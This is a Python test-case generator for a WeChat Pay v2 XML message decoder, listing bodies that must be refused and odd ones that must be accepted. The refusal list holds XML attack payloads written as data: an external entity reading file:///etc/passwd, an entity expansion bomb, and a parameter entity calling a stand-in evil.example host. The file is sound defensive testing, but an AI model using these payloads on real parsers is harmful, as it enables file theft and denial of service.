"""Messages as bytes: what must be refused as XML, and what must be taken although it looks odd."""

import base64

from sealed import payment, sealed, signed
from shape import case, error, notice


def markup():
    """Everything in which two readers of XML could disagree is refused (P19)."""
    kind = "v2 xml"
    bodies = {
        "nothing": "", "a blank": " ", "text": "SUCCESS", "a number": "7", "JSON": '{"xml":{}}', "a page": "<html><body>502</body></html>",
        "another root": "<root><a>1</a></root>", "a root of other case": "<XML><a>1</a></XML>", "two roots": "<xml><a>1</a></xml><xml></xml>",
        "text behind the root": "<xml><a>1</a></xml>x", "text before the root": "x<xml><a>1</a></xml>", "an open root": "<xml><a>1</a>",
        "an open element": "<xml><a>1</xml>", "an element that ends under another name": "<xml><a>1</b></xml>",
        "a DOCTYPE": "<!DOCTYPE xml><xml><a>1</a></xml>",
        "an external entity": '<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><a>&e;</a></xml>',
        "an expansion bomb": '<!DOCTYPE xml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><xml><a>&c;</a></xml>',
        "a parameter entity": '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><xml><a>1</a></xml>',
        "an unknown entity": "<xml><a>&nbsp;</a></xml>", "an entity that does not end": "<xml><a>&amp</a></xml>",
        "a bare ampersand": "<xml><a>a & b</a></xml>", "a reference to NUL": "<xml><a>&#0;</a></xml>",
        "a reference to a control character": "<xml><a>&#x8;</a></xml>", "a reference to a surrogate": "<xml><a>&#xD800;</a></xml>",
        "a reference to U+FFFE": "<xml><a>&#xFFFE;</a></xml>", "a reference beyond Unicode": "<xml><a>&#x110000;</a></xml>",
        "a reference with a sign": "<xml><a>&#+65;</a></xml>", "an element twice": "<xml><a>1</a><a>1</a></xml>",
        "an element twice with other values": "<xml><a>1</a><b>2</b><a>3</a></xml>", "an element inside another": "<xml><a><b>1</b></a></xml>",
        "an attribute": '<xml><a b="1">1</a></xml>', "an attribute of the root": '<xml version="2"><a>1</a></xml>',
        "a prefix": "<xml><n:a>1</n:a></xml>", "a namespace": '<xml xmlns="http://a.example"><a>1</a></xml>',
        "a comment": "<xml><!-- a --><a>1</a></xml>", "a comment inside a value": "<xml><a>1<!-- a -->2</a></xml>",
        "a comment before the root": "<!-- a --><xml><a>1</a></xml>", "a processing instruction": "<xml><?php echo 1 ?><a>1</a></xml>",
        "CDATA outside of an element": "<xml><![CDATA[1]]><a>1</a></xml>", "text beside elements": "<xml>text<a>1</a></xml>",
        "text before CDATA": "<xml><a>1<![CDATA[2]]></a></xml>", "text behind CDATA": "<xml><a><![CDATA[1]]>2</a></xml>",
        "CDATA split without need": "<xml><a><![CDATA[1]]><![CDATA[2]]></a></xml>", "CDATA that does not end": "<xml><a><![CDATA[1</a></xml>",
        "the end of CDATA in text": "<xml><a>1]]>2</a></xml>", "CDATA in small letters": "<xml><a><![cdata[1]]></a></xml>",
        "a control character": "<xml><a>\x01</a></xml>", "a NUL": "<xml><a>\0</a></xml>", "a control character in CDATA": "<xml><a><![CDATA[\x0b]]></a></xml>",
        "U+FFFF": "<xml><a>\uffff</a></xml>", "a name that begins with a digit": "<xml><1a>1</1a></xml>",
        "a name with a blank": "<xml>< a>1</a></xml>", "a name in Chinese": "<xml><金额>1</金额></xml>", "a name that is too long": f"<xml><{'a' * 65}>1</{'a' * 65}></xml>",
        "an empty name": "<xml><>1</></xml>", "too many elements": "<xml>" + "".join(f"<a{n}>1</a{n}>" for n in range(513)) + "</xml>",
        "version 1.1": '<?xml version="1.1"?><xml><a>1</a></xml>', "an encoding that is not UTF-8": '<?xml version="1.0" encoding="GBK"?><xml><a>1</a></xml>',
        "UTF-7": '<?xml version="1.0" encoding="UTF-7"?><xml><a>1</a></xml>', "two declarations": '<?xml version="1.0"?><?xml version="1.0"?><xml></xml>',
        "two byte order marks": "\ufeff\ufeff<xml><a>1</a></xml>",
    }
    for what, body in bodies.items():
        yield case(kind, f"a message with {what}", "v2.decode", blob=body, fails=error("Wire"))
    raw = {
        "bytes that are not UTF-8": b"<xml><a>\xff\xfe</a></xml>", "an overlong character": b"<xml><a>\xc0\xbc</a></xml>",
        "a surrogate in bytes": b"<xml><a>\xed\xa0\x80</a></xml>", "GBK": "<xml><a>茶</a></xml>".encode("gbk"),
        "UTF-16": "<xml><a>1</a></xml>".encode("utf-16"), "a cut character": b"<xml><a>\xe8\x8c</a></xml>",
        "a gzip": bytes([0x1F, 0x8B, 8, 0, 0, 0, 0, 0]),
    }
    for what, body in raw.items():
        yield case(kind, f"a message in {what}", "v2.decode", blob_base64=base64.b64encode(body).decode(), fails=error("Wire"))


def taken():
    """What must be taken although it looks odd: WeChat Pay sends it, or may."""
    kind = "v2 xml: what must be taken"
    texts = {
        "no element": ("<xml></xml>", {}), "an empty root": ("<xml/>", {}), "an empty element": ("<xml><a/><b></b></xml>", {"a": "", "b": ""}),
        "white space between elements": ("<xml>\n  <a>1</a>\r\n\t<b>2</b>\n</xml>\n", {"a": "1", "b": "2"}),
        "text and CDATA": ("<xml><a>1</a><b><![CDATA[2]]></b></xml>", {"a": "1", "b": "2"}),
        "a declaration": ('<?xml version="1.0" encoding="UTF-8"?><xml><a>1</a></xml>', {"a": "1"}),
        "white space before the declaration": ('\n<?xml version="1.0"?>\n<xml><a>1</a></xml>', {"a": "1"}),
        "a byte order mark": ("\ufeff<xml><a>1</a></xml>", {"a": "1"}),
        "the five entities": ("<xml><a>&amp;&lt;&gt;&quot;&apos;</a></xml>", {"a": "&<>\"'"}),
        "references to characters": ("<xml><a>&#x8336;&#33590;&#10;</a></xml>", {"a": "茶茶\n"}),
        "markup in CDATA": ("<xml><a><![CDATA[<b>&amp;</b>]]></a></xml>", {"a": "<b>&amp;</b>"}),
        "the end of CDATA in two": ("<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a></xml>", {"a": "x]]>y"}),
        "blanks kept": ("<xml><a>  1 </a><b><![CDATA[ 2\r\n]]></b></xml>", {"a": "  1 ", "b": " 2\r\n"}),
        "coupons by number": ("<xml><coupon_fee_0>1</coupon_fee_0><coupon_id_$1>2</coupon_id_$1></xml>", {"coupon_fee_0": "1", "coupon_id_$1": "2"}),
        "a field that nobody knows": ("<xml><brand_new>1</brand_new></xml>", {"brand_new": "1"}),
        "an emoji and a combining mark": ("<xml><a>😀e\u0301</a></xml>", {"a": "😀e\u0301"}),
        "names that differ in case": ("<xml><a>1</a><A>2</A></xml>", {"a": "1", "A": "2"}),
        "__proto__": ("<xml><__proto__>1</__proto__><constructor>2</constructor></xml>", {"__proto__": "1", "constructor": "2"}),
    }
    for what, (body, fields) in texts.items():
        yield case(kind, f"a message with {what}", "v2.decode", blob=body, gives={"params": fields})
    paid = signed(payment("HOSTILE-0001", attach="a b\n茶 <&>"))
    shuffled = dict(sorted(paid.items(), key=lambda field: field[0][::-1]))
    pretty = "<xml>\n" + "".join(f"  <{name}><![CDATA[{value}]]></{name}>\n" for name, value in shuffled.items()) + "</xml>\n"
    yield notice("a notice shuffled and printed prettily", pretty, gives={"kind": "payment", "fields": paid}, kind=kind)
    yield notice("a notice with a field that nobody knows", sealed(payment("HOSTILE-0001", brand_new="1")), gives={"kind": "payment", "fields": {"brand_new": "1"}}, kind=kind)
